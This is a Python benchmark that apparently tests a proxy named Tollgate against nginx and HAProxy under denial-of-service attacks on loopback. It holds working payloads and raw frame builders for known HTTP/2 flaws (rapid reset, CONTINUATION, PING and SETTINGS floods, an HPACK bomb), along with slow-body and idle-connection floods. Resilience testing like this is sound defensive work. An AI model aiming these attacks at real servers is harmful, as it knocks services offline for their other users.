#!/usr/bin/env python3
"""What one client address can do to all others: attacks with slow bodies, idle connections and frames of HTTP/2, side by side with
nginx and HAProxy.

    attacks.py target/release/tollgate                     every attack, every contestant
    attacks.py --only slow-uploads OLD NEW                 one attack, two builds beside nginx and HAProxy

The attacker has the address 127.0.0.2. Meanwhile a client at 127.0.0.3 opens a new connection for each request, 25 requests a second.
Printed is what that client sees: how many of its requests failed, and how long the others took; how often the attacker had to connect
and how many of its connections were open at most; and the proxy's memory before the attack and at the end of it. All contestants run
on two workers with their default limits; Tollgate with the shipped proxy.yaml, and a ban of the attacker in `banned-idle`. Peers have
no such ban: they `deny` the address.

`finished` counts long responses that the other client asked for before the attack, of those that should come whole by its end.

Those with `up` in their names go to an endpoint of HTTP/2, an nginx of its own, over connections that requests share; nginx has none. In
`tunnels` an upstream has 40 connections; in `few-files` the limit of open files is 1,024; in `impatient` there are two endpoints, which
close connections with slow uploads; in `h2-trusted` the attacker is a trusted proxy's connection, and `connects` tells how often it was
closed.

`h2-open-streams` is no attack, but tells what streams take: the limits on connections are raised for all, and of 1,000 connections each
has ten requests that the origin holds. Those of HTTP/2 that begin with `h2-` go to a port of nginx' own, which speaks nothing else there.

Debian packages used: nginx-light haproxy. The limit of open files (ulimit -n) has to be above 12,000.
"""
import argparse, multiprocessing, os, pathlib, resource, selectors, shutil, socket, subprocess, tempfile, threading, time, urllib.request
from typing import NamedTuple

ATTACKER, CLIENT = "127.0.0.2", "127.0.0.3"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags=0, stream=0, payload=b""):
    """RFC 9113, 4.1."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def fields(method, path):
    """Method, scheme, path and authority as HPACK, which leaves the table of fields as it is."""
    return {"GET": b"\x82", "POST": b"\x83"}[method] + b"\x86\x04" + bytes([len(path)]) + path.encode() + b"\x01\x01a"


def streams(count, each):
    """A connection that begins with `each` of so many streams."""
    return PREFACE + b"".join(each(2 * n + 1) for n in range(count))


def get(path, flags=END_STREAM | END_HEADERS, client=None):
    of = b"\x00\x0fx-forwarded-for" + bytes([len(client)]) + client.encode() if client else b""
    return lambda stream: frame(HEADERS, flags, stream, fields("GET", path) + of)


def upload(stream, path="/upload"):
    return frame(HEADERS, END_HEADERS, stream, fields("POST", path))


def repeated(stream):
    """One field of 4,000 bytes, which three bytes repeat as often; it is put into the table by the first stream."""
    own = b"\x40\x01x\x7f\xa1\x1e" + b"x" * 4000 if stream == 1 else b""
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, fields("GET", "/") + own + b"\xbe" * 3)


def bomb(stream):
    """One field of 4,000 bytes, which 12,000 bytes repeat as often; it is put into the table by the first stream."""
    own = b"\x40\x01x\x7f\xa1\x1e" + b"x" * 4000 if stream == 1 else b""
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, fields("GET", "/") + own + b"\xbe" * 12000)


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)
NO_WINDOW = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, payload=b"\0\4\0\0\0\0")


class Kind(NamedTuple):
    connections: int
    first: bytes  # sent first by each
    then: str  # the action after that: see Attack.work and Attack.each_second
    again: bytes = b""  # sent by that action


ATTACKS = {
    "slow-uploads": Kind(1030, b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\nx", "send", b"x"),
    "slow-readers": Kind(1030, b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n", "read"),
    "idle": Kind(10000, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", "request", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"),
    "banned-idle": Kind(10000, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", "request", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"),
    # CVE-2023-44487.
    "h2-rapid-reset": Kind(10, streams(5000, lambda n: get("/")(n) + frame(RST_STREAM, 0, n, b"\0\0\0\x08")), "reconnect"),
    # CVE-2025-8671: the server is made to reset them, by an increment of 0.
    "h2-made-you-reset": Kind(10, streams(5000, lambda n: get("/")(n) + frame(WINDOW_UPDATE, 0, n, bytes(4))), "reconnect"),
    # CVE-2024-27316 and its like.
    "h2-continuation": Kind(10, streams(1, get("/", END_STREAM)), "flood", frame(CONTINUATION, 0, 1, b"\0\x01x\x01x") * 4000),
    "h2-settings": Kind(10, PREFACE, "flood", frame(SETTINGS, payload=b"\0\4\0\0\xff\xff") * 4000),  # CVE-2019-9515
    "h2-ping": Kind(10, PREFACE, "flood", frame(PING, payload=bytes(8)) * 4000),  # CVE-2019-9512
    "h2-ping-unread": Kind(10, PREFACE, "flood unread", frame(PING, payload=bytes(8)) * 4000),
    "h2-empty-data": Kind(10, streams(1, upload), "flood", frame(DATA, 0, 1) * 4000),  # CVE-2019-9518
    "h2-hpack-bomb": Kind(10, streams(500, bomb), "reconnect"),  # CVE-2016-6581
    "h2-zero-window": Kind(100, NO_WINDOW + streams(100, get("/medium"))[len(PREFACE):], "hold"),
    "h2-slow-uploads": Kind(20, streams(100, upload), "send", b"".join(frame(DATA, 0, 2 * n + 1, b"x") for n in range(100))),
    "up-long-heads": Kind(10, b"GET / HTTP/1.1\r\nHost: a\r\nX-Long: " + b"x" * 20000 + b"\r\n\r\n", "wait"),
    "up-closed": Kind(100, b"GET /hold HTTP/1.1\r\nHost: a\r\n\r\n", "hang up"),
    "h2-up-cancels": Kind(10, streams(100, get("/hold")), "hang up"),
    "h2-up-uploads": Kind(2, streams(10, lambda n: upload(n, "/unread") + frame(DATA, 0, n, b"x" * 16000) * 4), "hold"),
    "h2-up-zero-window": Kind(20, NO_WINDOW + streams(100, get("/medium"))[len(PREFACE):], "hold"),
    "tunnels": Kind(40, b"GET /tunnel HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n", "wait"),
    "few-files": Kind(5000, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", "request", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"),
    "impatient": Kind(10, b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n" + b"x" * 20000, "wait"),
    "h2-trusted": Kind(1, streams(80, get("/hold", client="192.0.2.66")), "cancel", b""),
    "h2-hpack-ping": Kind(10, streams(500, repeated), "flood", frame(PING, payload=bytes(8)) * 4000),
    "h2-open-streams": Kind(1000, streams(10, get("/hold")), "hold"),
}
SECONDS, PAUSE, PATIENCE = 30, 0.04, 3.0


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_for(port):
    for _ in range(300):
        try:
            return socket.create_connection(("127.0.0.1", port), 1).close()
        except OSError:
            time.sleep(0.05)
    raise SystemExit(f"nothing listens on port {port}")


class Attack(multiprocessing.Process):
    """Holds its connections open, and opens each again when it is closed."""

    def __init__(self, port, attack):
        super().__init__(daemon=True)
        self.port, (self.count, self.first, self.then, self.again) = port, ATTACKS[attack]
        self.is_http2, self.next = attack.startswith("h2-"), {}
        self.ended, self.most, self.connected = multiprocessing.Event(), multiprocessing.Value("i"), multiprocessing.Value("i")
        # By connection: the bytes left to send.
        self.open = {}

    def connect(self):
        s = socket.socket()
        s.setblocking(False)
        if not self.is_http2:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        # The port is chosen when the connection is made, so that many are left (ip(7)).
        s.setsockopt(socket.SOL_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        s.bind((ATTACKER, 0))
        s.connect_ex(("127.0.0.1", self.port))
        self.open[s] = memoryview(self.first)
        self.selector.register(s, selectors.EVENT_WRITE if "unread" in self.then else selectors.EVENT_READ | selectors.EVENT_WRITE)
        self.connected.value += 1

    def close(self, s):
        if self.open.pop(s, None) is not None:
            if s in self.selector.get_map():
                self.selector.unregister(s)
            s.close()

    def read(self, s, size=65536):
        if not (answer := s.recv(size)):
            raise OSError("closed")
        if self.is_http2 and answer[3:5] == bytes([SETTINGS, 0]):
            s.send(frame(SETTINGS, ACK))

    def work(self, s, events):
        if events & selectors.EVENT_READ:
            self.read(s)
        if events & selectors.EVENT_WRITE:
            self.open[s] = self.open[s][s.send(self.open[s]):]
            if self.open[s]:
                return
            if self.then == "reconnect":
                raise OSError("all is sent")
            elif self.then.startswith("flood"):
                self.open[s] = memoryview(self.again)
            elif self.then == "read":
                # A slow reader reads only at the pace of the clock.
                self.selector.unregister(s)
            else:
                self.selector.modify(s, selectors.EVENT_READ)

    def each_second(self, s, now):
        if self.then == "send":
            s.send(self.again)
        elif self.then == "hang up":
            raise OSError("it hangs up")
        elif self.then == "cancel":
            # All streams, and as many again.
            first = self.next.get(s, 1)
            last = first + 160
            s.send(b"".join(frame(RST_STREAM, 0, n, b"\0\0\0\x08") for n in range(first, last, 2))
                   + b"".join(get("/hold", client="192.0.2.66")(n) for n in range(last, last + 160, 2)))
            self.next[s] = last
        elif self.then == "read":
            self.read(s, 1)
        elif self.then == "request" and hash(s) % 20 == int(now) % 20:
            s.send(self.again)  # once in 20 s, before any idle timeout

    def run(self):
        self.selector, due, allowance, last = selectors.EpollSelector(), time.monotonic() + 1, 0.0, time.monotonic()
        while not self.ended.is_set():
            now = time.monotonic()
            # 2,000 connections a second, so that the attack is under way after some seconds and costs little itself.
            allowance, last = min(allowance + (now - last) * 2000, 200), now
            while len(self.open) < self.count and allowance >= 1:
                self.connect()
                allowance -= 1
            ready = [(key.fileobj, self.work, (events,)) for key, events in self.selector.select(0.02)]
            self.most.value = max(self.most.value, len(self.open))
            if now >= due:
                due = now + 1
                ready += [(s, self.each_second, (now,)) for s, left in self.open.items() if not left]
            for s, do, arguments in ready:
                try:
                    if s in self.open:
                        do(s, *arguments)
                except BlockingIOError:
                    pass
                except OSError:
                    self.close(s)


class TunnelOrigin(multiprocessing.Process):
    """Opens each tunnel, and responds to every other request."""

    def __init__(self):
        super().__init__(daemon=True)
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=4096)
        self.port = self.listener.getsockname()[1]

    def run(self):
        selector = selectors.EpollSelector()
        selector.register(self.listener, selectors.EVENT_READ)
        while True:
            for key, _ in selector.select():
                if key.fileobj is self.listener:
                    selector.register(self.listener.accept()[0], selectors.EVENT_READ)
                    continue
                try:
                    asked = key.fileobj.recv(65536)
                    if not asked:
                        raise OSError("closed")
                    if b"/tunnel" in asked:
                        key.fileobj.send(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
                                         b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")
                    elif asked.startswith(b"GET"):
                        key.fileobj.send(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
                except OSError:
                    selector.unregister(key.fileobj)
                    key.fileobj.close()


class ImpatientOrigin(multiprocessing.Process):
    """Answers GET, and closes a connection with an upload that is not there."""

    def __init__(self):
        super().__init__(daemon=True)
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=4096)
        self.port = self.listener.getsockname()[1]

    def run(self):
        while True:
            connection, _ = self.listener.accept()
            try:
                connection.settimeout(0.2)
                if connection.recv(65536).startswith(b"GET"):
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
            except OSError:
                pass
            connection.close()


class LongResponses(threading.Thread):
    """Reads responses that take their time, and counts those that come whole."""

    COUNT, LENGTH = 5, 3 << 20

    def __init__(self, port):
        super().__init__(daemon=True)
        self.port, self.finished = port, 0
        self.readers = [threading.Thread(target=self.read, daemon=True) for _ in range(self.COUNT)]

    def run(self):
        for reader in self.readers:
            reader.start()

    def read(self):
        try:
            with socket.create_connection(("127.0.0.1", self.port), 30, (CLIENT, 0)) as s:
                s.sendall(b"GET /slowly HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
                length = 0
                while chunk := s.recv(65536):
                    length += len(chunk)
            self.finished += length > self.LENGTH
        except OSError:
            pass


class SilentOrigin(multiprocessing.Process):
    """Accepts every connection, and never responds."""

    def __init__(self):
        super().__init__(daemon=True)
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=4096)
        self.port, self.held = self.listener.getsockname()[1], multiprocessing.Value("i")

    def run(self):
        held = []
        while True:
            held.append(self.listener.accept())
            self.held.value = len(held)


def others(port, seconds, body=b""):
    """What another client sees for so long: the number of requests, how many failed and how, and the times of the others."""
    times, failures = [], {}
    end = time.monotonic() + seconds
    while (begun := time.monotonic()) < end:
        try:
            with socket.create_connection(("127.0.0.1", port), PATIENCE, (CLIENT, 0)) as s:
                s.settimeout(PATIENCE)
                s.sendall(b"POST /upload HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body) if body
                          else b"GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
                answer = b""
                while chunk := s.recv(65536):
                    answer += chunk
            status = answer[9:12].decode() or "closed"
            if status == "200":
                times.append(time.monotonic() - begun)
            else:
                failures[status] = failures.get(status, 0) + 1
        except OSError as error:
            name = "timeout" if isinstance(error, TimeoutError) else type(error).__name__
            failures[name] = failures.get(name, 0) + 1
        time.sleep(max(0, PAUSE - (time.monotonic() - begun)))
    return times, failures


NGINX = """worker_processes 2; worker_rlimit_nofile 20000; daemon off; pid {d}/{n}.pid; error_log {d}/{n}.log error;
events {{ worker_connections {connections}; }}
http {{ access_log off; client_body_temp_path {d}/{n}b; proxy_temp_path {d}/{n}p; fastcgi_temp_path {d}/{n}f; uwsgi_temp_path {d}/{n}u; scgi_temp_path {d}/{n}s;
  client_max_body_size 0; {http}
  server {{ listen 127.0.0.1:{port} backlog=4096; {http2} {server} }} }}"""


def start_origin(d, silent):
    """The process, its port, and that for HTTP/2."""
    port, http2_port = free_port(), free_port()
    pathlib.Path(d, "html").mkdir()
    with open(f"{d}/html/large", "wb") as large:
        large.truncate(64 << 20)
    with open(f"{d}/html/medium", "wb") as medium:
        medium.truncate(1 << 20)
    with open(f"{d}/html/slowly", "wb") as slowly:
        slowly.truncate(LongResponses.LENGTH)
    pathlib.Path(d, "html/index.html").write_text("ok")
    # Reads the whole upload, as an application does.
    sink = free_port()
    pathlib.Path(d, "origin.conf").write_text(NGINX.format(
        d=d, n="origin", connections=20000, port=port, http2=f"listen 127.0.0.1:{http2_port} http2 backlog=4096;", http=f"server {{ listen 127.0.0.1:{sink}; location / {{ return 200 ok; }} }}",
        server=f"""root {d}/html; location /slowly {{ limit_rate 256k; }} location /upload {{ proxy_pass http://127.0.0.1:{sink}; }}
          location /hold {{ proxy_pass http://127.0.0.1:{silent}; }}
          location /unread {{ proxy_request_buffering off; proxy_buffering off; proxy_pass http://127.0.0.1:{silent}; }}"""))
    origin = subprocess.Popen(["nginx", "-c", f"{d}/origin.conf"])
    wait_for(port)
    return origin, port, http2_port


def few_files():
    resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024))


def start(contestant, d, origins, silent, attack):
    """The process, its port, and that for HTTP/2."""
    port, deny, is_open = free_port(), attack == "banned-idle", attack == "h2-open-streams"
    http2_port, is_shared = port, "up-" in attack
    limits = {"preexec_fn": few_files} if attack == "few-files" else {}
    # The upstream with few connections.
    most = 40 if attack == "tunnels" else 1024
    if contestant == "nginx":
        http2_port = free_port()
        server = f"""location / {{ {f'deny {ATTACKER};' if deny else ''} proxy_pass http://o; proxy_http_version 1.1;
            proxy_set_header Upgrade $http_upgrade; proxy_set_header Connection $http_connection; proxy_request_buffering off; }}
          location /hold {{ proxy_pass http://127.0.0.1:{silent}; }}"""
        # 768 is Debian's number of connections.
        pathlib.Path(d, "peer.conf").write_text(NGINX.format(d=d, n="peer", connections=20000 if is_open else 768, port=port,
                                                             http="upstream o { zone o 64k; " + " ".join(f"server 127.0.0.1:{o} max_conns={most};" for o in origins) + " }",
                                                             http2=f"listen 127.0.0.1:{http2_port} http2 backlog=4096;", server=server))
        process = subprocess.Popen(["nginx", "-c", f"{d}/peer.conf"], **limits)
    elif contestant == "haproxy":
        # Debian's timeouts.
        pathlib.Path(d, "haproxy.cfg").write_text(f"""global
  nbthread 2
  {'' if limits else 'maxconn 9900'}
defaults
  mode http
  timeout connect 5000
  timeout client 50000
  timeout server 50000
frontend f
  bind 127.0.0.1:{port}
  {f'http-request deny if {{ src {ATTACKER} }}' if deny else ''}
  {'' if is_shared else 'use_backend hold if { path /hold }'}
  default_backend o
backend hold
  server hold 127.0.0.1:{silent}
backend o
{chr(10).join(f"  server o{o} 127.0.0.1:{o} maxconn {most} {'proto h2' if is_shared else ''}" for o in origins)}
""")
        process = subprocess.Popen(["haproxy", "-db", "-q", "-f", f"{d}/haproxy.cfg"], **limits)
    else:
        admin = free_port()
        pathlib.Path(d, "proxy.yaml").write_text(f"""listeners: [{{ address: "127.0.0.1:{port}" }}]
admin: {{ address: "127.0.0.1:{admin}" }}
workers: 2
access_log: off
{f"trusted_proxies: [{ATTACKER}]" if attack == "h2-trusted" else ""}
upstreams:
  origin: {{ endpoints: {[f"http://127.0.0.1:{o}" for o in origins]}, protocol: {'h2' if is_shared else 'h1'}, max_connections: {most} }}
  hold: {{ endpoints: ["http://127.0.0.1:{silent}"], max_connections: {20000 if is_open else 1024}, timeouts: {{ response: 60s }} }}
routes:
{'' if is_shared else '  - { path: /hold, upstream: hold }'}
  - {{ path: /*, upstream: origin }}
""")
        process = subprocess.Popen([contestant, "run", "--config", f"{d}/proxy.yaml"], stderr=open(f"{d}/tollgate.log", "w"), **limits)
        if deny:
            wait_for(port)
            ban = urllib.request.Request(f"http://127.0.0.1:{admin}/v1/bans", method="POST", headers={"content-type": "application/json"},
                                         data=f'{{"key": "ip:{ATTACKER}", "for": "1h", "reason": "attack"}}'.encode())
            urllib.request.urlopen(ban).close()
    wait_for(port)
    return process, port, http2_port


def memory(pid):
    """Resident memory of a process and its children in MiB."""
    pids = [pid, *map(int, subprocess.run(["pgrep", "-P", str(pid)], capture_output=True, text=True).stdout.split())]
    return sum(int(line.split()[1]) for p in pids for line in open(f"/proc/{p}/status") if line.startswith("VmRSS")) / 1024


def measure(attack, contestant):
    d = tempfile.mkdtemp()
    os.chmod(d, 0o755)
    processes = []
    try:
        silent = SilentOrigin()
        silent.start()
        processes.append(silent)
        origin, *ports = start_origin(d, silent.port)
        processes.append(origin)
        # One that can be busy for others.
        ports = [ports[1] if "up-" in attack else ports[0]]
        special = {"tunnels": [TunnelOrigin], "impatient": [ImpatientOrigin] * 2}.get(attack, [])
        for kind in special:
            processes.append(kind())
            processes[-1].start()
        ports = [process.port for process in processes[-len(special):]] if special else ports
        proxy, port, http2_port = start(contestant, d, ports, silent.port, attack)
        processes.append(proxy)
        body = b"x" * 50000 if "uploads" in attack and "up-" in attack else b""
        others(port, 1, body)
        long = LongResponses(port)
        if not special:
            long.start()
            time.sleep(1)
        before = memory(proxy.pid)
        attacker = Attack(http2_port if attack.startswith("h2-") else port, attack)
        attacker.start()
        processes.append(attacker)
        time.sleep(attacker.count / 2000 + 2)
        times, failures = others(port, SECONDS, body)
        after, held = memory(proxy.pid), f"{silent.held.value} held" if silent.held.value else ""
        times.sort()
        at = lambda part: f"{times[min(int(len(times) * part), len(times) - 1)] * 1000:9.1f}" if times else "        -"
        failed = sum(failures.values())
        name = pathlib.Path(contestant).name
        held += "" if special else f" {long.finished}/{long.COUNT} finished"
        print(f"{attack:18}{name:16}{len(times) + failed:8}{failed:8}{at(.5)}{at(.99)}{attacker.connected.value:10}{attacker.most.value:8}"
              f"{before:8.0f}{after:8.0f}   {failures or ''} {held}", flush=True)
    finally:
        for process in reversed(processes):
            process.terminate()
            process.join() if isinstance(process, multiprocessing.Process) else process.wait()
        shutil.rmtree(d, ignore_errors=True)


def main():
    global SECONDS
    arguments = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    arguments.add_argument("binary", nargs="*")
    arguments.add_argument("--only", action="append", choices=ATTACKS)
    arguments.add_argument("--seconds", type=int, default=SECONDS)
    arguments.add_argument("--no-peers", action="store_true")
    arguments = arguments.parse_args()
    SECONDS = arguments.seconds
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(20000, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
    os.environ["PATH"] += ":/usr/sbin:/sbin"
    print(f"{'attack':18}{'proxy':16}{'requests':>8}{'failed':>8}{'p50 ms':>9}{'p99 ms':>9}{'connects':>10}{'open':>8}{'MiB':>8}{'then':>8}   failures")
    for attack in arguments.only or ATTACKS:
        peers = ["haproxy"] if "up-" in attack else ["nginx", "haproxy"]
        for contestant in [*([] if arguments.no_peers else peers), *arguments.binary]:
            measure(attack, contestant)


main()
